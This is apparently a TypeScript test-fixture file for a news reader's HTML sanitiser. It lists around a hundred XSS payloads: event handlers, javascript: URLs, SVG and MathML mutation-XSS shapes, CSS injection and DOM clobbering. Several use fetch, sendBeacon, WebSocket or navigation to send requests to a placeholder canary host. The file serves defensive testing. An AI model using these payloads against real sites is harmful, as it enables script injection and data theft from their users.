/**
 * Zixun's own XSS payloads for the browser journey: alone in
 * `npm run test:e2e`, with DOMPurify's fixtures (read from the shared folder
 * at test time, never copied here) in `npm run test:corpora`. They cover
 * the classes of attack those fixtures do, in payloads of our own. Each one,
 * if it ever ran, would call `__canary('<id>')` or `alert('<id>')` or reach
 * the canary host, so a failure names the payload that caused it.
 *
 * The canary host must only ever be reached by script (or by markup the
 * sanitiser should have removed): no payload here is a plain `<img>` or
 * link to it, which a news reader is allowed to load or follow.
 */

/** The host exfiltration payloads talk to; `.invalid` never resolves. */
export const CANARY_HOST = 'canary.invalid'

export type ZixunPayload = { id: string; payload: string }

const c = (id: string) => `__canary('${id}')`
const exfil = (id: string) => `fetch('//${CANARY_HOST}/${id}')`

const payloads: Array<[string, string]> = [
  // --- event handlers and scripts ---
  ['img-onerror', `<img src=x onerror="${c('img-onerror')}">`],
  ['img-fetch', `<img src=x onerror="${exfil('img-fetch')}">`],
  [
    'img-image-exfil',
    `<img src=x onerror="new Image().src='//${CANARY_HOST}/img-image-exfil'">`,
  ],
  [
    'img-beacon',
    `<img src=x onerror="navigator.sendBeacon('//${CANARY_HOST}/img-beacon')">`,
  ],
  [
    'img-websocket',
    `<img src=x onerror="new WebSocket('wss://${CANARY_HOST}/img-websocket')">`,
  ],
  [
    'img-navigate',
    `<img src=x onerror="location='https://${CANARY_HOST}/img-navigate'">`,
  ],
  [
    'img-entity-parens',
    `<img src=x onerror=__canary&#40;'img-entity-parens'&#41;>`,
  ],
  ['script-inline', `<script>${c('script-inline')}</script>`],
  [
    'script-src',
    `<script src="https://${CANARY_HOST}/script-src.js"></script>`,
  ],
  ['body-onload', `<body onload="${c('body-onload')}">`],
  [
    'details-ontoggle',
    `<details open ontoggle="${c('details-ontoggle')}"><summary>x</summary>y</details>`,
  ],
  ['input-autofocus', `<input autofocus onfocus="${c('input-autofocus')}">`],
  ['marquee-onstart', `<marquee onstart="${c('marquee-onstart')}">x</marquee>`],
  [
    'video-source-onerror',
    `<video><source onerror="${c('video-source-onerror')}"></video>`,
  ],
  ['audio-onerror', `<audio src=x onerror="alert('audio-onerror')"></audio>`],
  [
    'popover-beforetoggle',
    `<div popover id=p onbeforetoggle="${c('popover-beforetoggle')}">x</div><button popovertarget=p>open</button>`,
  ],
  [
    'style-onanimation',
    `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="${c('style-onanimation')}">x</p>`,
  ],
  // --- URLs ---
  ['a-javascript', `<a href="javascript:${c('a-javascript')}">link</a>`],
  [
    'a-javascript-colon-entity',
    `<a href="JaVaScRiPt&colon;${c('a-javascript-colon-entity')}">link</a>`,
  ],
  [
    'a-javascript-ncr',
    `<a href="&#106;avascript:${c('a-javascript-ncr')}">link</a>`,
  ],
  [
    'a-javascript-tab',
    `<a href="java&#x09;script:${c('a-javascript-tab')}">link</a>`,
  ],
  [
    'a-javascript-leading-ctrl',
    `<a href="\u0001 javascript:${c('a-javascript-leading-ctrl')}">link</a>`,
  ],
  ['a-vbscript', `<a href="vbscript:msgbox('a-vbscript')">link</a>`],
  [
    'a-data-html',
    `<a href="data:text/html,<script>parent.${c('a-data-html')}</script>" target=_self>link</a>`,
  ],
  [
    'a-redirect-wrapper',
    `<a href="https://www.oschina.net/action/GoToLink?url=javascript%3A__canary(%27a-redirect-wrapper%27)">link</a>`,
  ],
  [
    'a-redirect-generic',
    `<a href="https://example.com/action/GoToLink?url=javascript%3A__canary(%27a-redirect-generic%27)">link</a>`,
  ],
  [
    'img-srcset-javascript',
    `<img srcset="https://example.com/a.png 1x, javascript:${c('img-srcset-javascript')} 2x">`,
  ],
  [
    'img-lazy-javascript',
    `<img data-original="javascript:${c('img-lazy-javascript')}" src="https://example.com/p.gif">`,
  ],
  [
    'img-data-svg',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c('img-data-svg')}'/>">`,
  ],
  ['video-poster', `<video poster="javascript:${c('video-poster')}"></video>`],
  [
    'form-action',
    `<form action="javascript:${c('form-action')}"><button>go</button></form>`,
  ],
  [
    'button-formaction',
    `<form><button formaction="javascript:${c('button-formaction')}">go</button></form>`,
  ],
  ['isindex', `<isindex action="javascript:${c('isindex')}" type=image>`],
  [
    'meta-refresh',
    `<meta http-equiv="refresh" content="0;url=javascript:${c('meta-refresh')}">`,
  ],
  [
    'base-href',
    `<base href="javascript:${c('base-href')}//"><a href="x">relative</a>`,
  ],
  // --- frames, objects ---
  [
    'iframe-srcdoc',
    `<iframe srcdoc="<script>parent.${c('iframe-srcdoc')}</script>"></iframe>`,
  ],
  [
    'iframe-srcdoc-alert',
    `<iframe srcdoc="<img src=x onerror=alert('iframe-srcdoc-alert')>"></iframe>`,
  ],
  [
    'iframe-javascript',
    `<iframe src="javascript:parent.${c('iframe-javascript')}"></iframe>`,
  ],
  [
    'iframe-javascript-alert',
    `<iframe src="javascript:alert('iframe-javascript-alert')"></iframe>`,
  ],
  [
    'iframe-data',
    `<iframe src="data:text/html,<script>alert('iframe-data')</script>"></iframe>`,
  ],
  [
    'iframe-canary-host',
    `<iframe src="https://${CANARY_HOST}/iframe-canary-host"></iframe>`,
  ],
  [
    'iframe-allowlisted-onload',
    `<iframe src="https://www.youtube.com/embed/xss-test" onload="${c('iframe-allowlisted-onload')}" sandbox="allow-top-navigation allow-scripts allow-same-origin"></iframe>`,
  ],
  [
    'object-data',
    `<object data="data:text/html,<script>parent.${c('object-data')}</script>"></object>`,
  ],
  [
    'object-javascript',
    `<object data="javascript:${c('object-javascript')}"></object>`,
  ],
  [
    'embed-data',
    `<embed src="data:text/html,<script>parent.${c('embed-data')}</script>">`,
  ],
  ['embed-javascript', `<embed src="javascript:${c('embed-javascript')}">`],
  // --- CSS ---
  [
    'style-import',
    `<style>@import 'https://${CANARY_HOST}/style-import.css';</style><p>x</p>`,
  ],
  [
    'link-stylesheet',
    `<link rel=stylesheet href="https://${CANARY_HOST}/link-stylesheet.css">`,
  ],
  [
    'style-attr-url',
    `<div style="background:url('javascript:${c('style-attr-url')}')">x</div>`,
  ],
  [
    'style-overlay',
    `<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>`,
  ],
  // --- SVG / MathML namespace confusion, mXSS shapes ---
  ['svg-onload', `<svg onload="${c('svg-onload')}"></svg>`],
  ['svg-script', `<svg><script>${c('svg-script')}</script></svg>`],
  [
    'svg-xlink',
    `<svg><a xlink:href="javascript:${c('svg-xlink')}"><text y=20>x</text></a></svg>`,
  ],
  [
    'svg-animate',
    `<svg><animate onbegin="${c('svg-animate')}" attributeName=x dur=1s></animate></svg>`,
  ],
  [
    'svg-set-href',
    `<svg><a><set attributeName=href to="javascript:${c('svg-set-href')}"/><text y=20>x</text></a></svg>`,
  ],
  [
    'svg-style-img',
    `<svg><style><img src=x onerror="${c('svg-style-img')}"></style></svg>`,
  ],
  [
    'svg-p-style',
    `<svg></p><style><a id="</style><img src=1 onerror=${c('svg-p-style')}>">`,
  ],
  [
    'math-mtext-mglyph',
    `<math><mtext><table><mglyph><style><img src=x onerror="${c('math-mtext-mglyph')}">`,
  ],
  [
    'form-math-mglyph',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${c('form-math-mglyph')}">`,
  ],
  ['math-href', `<math href="javascript:${c('math-href')}">click</math>`],
  [
    'math-maction',
    `<math><maction actiontype=statusline xlink:href="javascript:${c('math-maction')}">x</maction></math>`,
  ],
  [
    'noscript-title',
    `<noscript><p title="</noscript><img src=x onerror=${c('noscript-title')}>"></noscript>`,
  ],
  [
    'template-img',
    `<template><img src=x onerror="${c('template-img')}"></template>`,
  ],
  [
    'select-template-style',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${c('select-template-style')}>">`,
  ],
  [
    'comment-breakout',
    `<!--<img src="--><img src=x onerror=${c('comment-breakout')}//">`,
  ],
  [
    'title-attr-markup',
    `<p title="</p><img src=x onerror=${c('title-attr-markup')}>">text</p>`,
  ],
  ['xmp-img', `<xmp><img src=x onerror="${c('xmp-img')}"></xmp>`],
  [
    'nested-a',
    `<a href="https://example.com/1">a<a href="javascript:${c('nested-a')}">b</a></a>`,
  ],
  // --- more shapes of the classes above (cf. DOMPurify's own suite) ---
  [
    'a-javascript-nbsp',
    `<a href="&#xA0;javascript:${c('a-javascript-nbsp')}">link</a>`,
  ],
  [
    'a-javascript-ogham-space',
    `<a href="&#x1680;javascript:${c('a-javascript-ogham-space')}">link</a>`,
  ],
  [
    'media-data-src',
    `<video src="data:text/html,<script>parent.${c('media-data-src')}</script>" onerror="${c('media-data-src')}"></video><audio src="data:audio/wav,x" onloadstart="${c('media-data-src')}"></audio>`,
  ],
  [
    'table-background',
    `<table background="javascript:${c('table-background')}"><tr><td>x</td></tr></table>`,
  ],
  [
    'textarea-comment',
    `<p><textarea>notes</textarea><!--</textarea><img src=x onerror=${c('textarea-comment')}>--></p>`,
  ],
  [
    'noscript-comment',
    `<i><noscript><!-- </noscript><img src=x onerror=${c('noscript-comment')} --></noscript></i>`,
  ],
  [
    'template-nested',
    `<template><u><template><u><img src=x onerror=${c('template-nested')}></u></template></u></template>`,
  ],
  [
    'option-style',
    `<select><option><style></option></select><i><img src=x onerror=${c('option-style')}></style></option>`,
  ],
  [
    'style-self-closing',
    `<em><style><style///><img src=x onerror=${c('style-self-closing')}>`,
  ],
  [
    'input-onblur-autofocus',
    `<input onblur="${c('input-onblur-autofocus')}" autofocus><input autofocus>`,
  ],
  [
    'frameset-onload',
    `<frameset onload="${c('frameset-onload')}"><frame src="javascript:parent.${c('frameset-onload')}"></frameset>`,
  ],
  [
    'li-list-style-onerror',
    `<ul><li style="list-style:url(x)" onerror="${c('li-list-style-onerror')}">x</li></ul>`,
  ],
  [
    'style-expression',
    `<p style="width:expression(${c('style-expression')})">x</p>`,
  ],
  [
    'link-data-stylesheet',
    `<link rel=stylesheet href="data:text/css,*{background:url(//${CANARY_HOST}/link-data-stylesheet)}"><p>x</p>`,
  ],
  [
    'style-import-data',
    `<style>@import "data:text/css,*{background:url(//${CANARY_HOST}/style-import-data)}";</style><p>x</p>`,
  ],
  [
    'object-data-base64',
    `<object data="data:text/html;base64,${Buffer.from(`<script>parent.${c('object-data-base64')}</script>`).toString('base64')}"></object>`,
  ],
  [
    'svg-set-onmouseover',
    `<svg><set attributeName="onmouseover" to="${c('svg-set-onmouseover')}"/><rect width=10 height=10 /></svg>`,
  ],
  [
    'svg-animate-values',
    `<svg><a><animate attributeName="href" values="javascript:${c('svg-animate-values')}"/><text y=20>x</text></a></svg>`,
  ],
  [
    'svg-image-data',
    `<svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c('svg-image-data')}'/>" width=10 height=10 /></svg>`,
  ],
  [
    'svg-foreignobject-style',
    `<svg><foreignObject><p><style><p title="</style><img src=x onerror=${c('svg-foreignobject-style')}>"></style></p></foreignObject></svg>`,
  ],
  [
    'math-annotation-xml',
    `<math><annotation-xml encoding="text/html"><p><style><p title="</style><img src=x onerror=${c('math-annotation-xml')}>"></style></annotation-xml></math>`,
  ],
  [
    'svg-style-iframe-entity',
    `<svg><style><a title="</style><iframe onload&#x3d;${c('svg-style-iframe-entity')}>"></a></style></svg>`,
  ],
  [
    'div-ondragstart',
    `<div draggable="true" ondragstart="${c('div-ondragstart')}">drag me</div>`,
  ],
  [
    'body-onscroll',
    `<body onscroll="${c('body-onscroll')}"><div style="height:3000px">tall</div>`,
  ],
  [
    'dialog-commandfor',
    `<dialog id=zx-dialog open onclose="${c('dialog-commandfor')}">x</dialog><button commandfor=zx-dialog command=close>close</button>`,
  ],
  [
    'selectedcontent-clone',
    `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${c('selectedcontent-clone')}>a</option></select>`,
  ],
  [
    'meta-charset-utf7',
    `<meta charset="x-imap4-modified-utf7">&ADw-img src=x onerror=${c('meta-charset-utf7')}&AD4-`,
  ],
  [
    'xml-stylesheet-pi',
    `<?xml-stylesheet type="text/xsl" href="javascript:${c('xml-stylesheet-pi')}"?><p>x</p>`,
  ],
  [
    'iframe-view-source',
    `<iframe src="view-source:https://${CANARY_HOST}/iframe-view-source"></iframe>`,
  ],
  [
    'script-src-backslash',
    `<script src="\\\\${CANARY_HOST}/script-src-backslash.js"></script>`,
  ],
  [
    'form-input-clobber',
    `<form onsubmit="${c('form-input-clobber')}"><input name=attributes><input name=nodeName><input name=parentNode onfocus="${c('form-input-clobber')}"></form><img src=x name=createElement>`,
  ],
  // --- DOM clobbering (would break the app, not run script) ---
  [
    'clobber',
    `<form name=getElementById></form><img name=cookie src=x><a id=location href=x>x</a><div id=root>root</div><img name=__canary src=x>`,
  ],
]

/** Our payloads, each with a stable id (`zixun-<name>`). */
export const ZIXUN_PAYLOADS: readonly ZixunPayload[] = payloads.map(
  ([name, payload]) => ({ id: `zixun-${name}`, payload }),
)

/**
 * Payloads for fields that are text, never HTML: category names and
 * authors (no commas: a comma splits Jekyll-style category strings).
 */
export const FIELD_PAYLOADS = {
  category: `<img src=x onerror=__canary('category')>`,
  nestedCategory: `<svg/onload=__canary('nested-category')>`,
  author: `<img src=x onerror=__canary('author')>`,
  /** Not http(s): the reader must not link to it. */
  link: `javascript:__canary('link')`,
  thumbnail: `javascript:__canary('thumbnail')`,
} as const

/**
 * Known-executing markup for the detector self-test, inserted WITHOUT the
 * sanitiser into a page without the CSP: each detector must fire.
 */
export const SELF_TEST_PAYLOADS = {
  alert: `<img src=x onerror="alert('self-alert')">`,
  canary: `<img src=x onerror="__canary('self-canary')">`,
  canaryRequest: `<img src=x onerror="${exfil('self-request')}">`,
  frameDialog: `<iframe srcdoc="<script>alert('self-frame')</script>"></iframe>`,
  pageError: `<img src=x onerror="throw new Error('self-pageerror')">`,
  onMouseover: `<b onmouseover="__canary('self-mouseover')">hover</b>`,
  offsiteScript: `<img src=x onerror="document.head.append(Object.assign(document.createElement('script'), { src: 'https://offsite.invalid/self-script.js' }))">`,
  websocket: `<img src=x onerror="new WebSocket('wss://offsite.invalid/self-websocket')">`,
  /** Needs a real click (the popup blocker wants a user gesture). */
  popup: `<button id=self-popup onclick="window.open('https://offsite.invalid/self-popup')">popup</button>`,
  navigation: `<img src=x onerror="setTimeout(() => location.assign('https://${CANARY_HOST}/self-navigation'), 30)">`,
  /** Runs 300 ms after its image failed, well after the page settled. */
  delayed: `<img src=x onerror="setTimeout(() => __canary('self-delayed'), 300)">`,
} as const
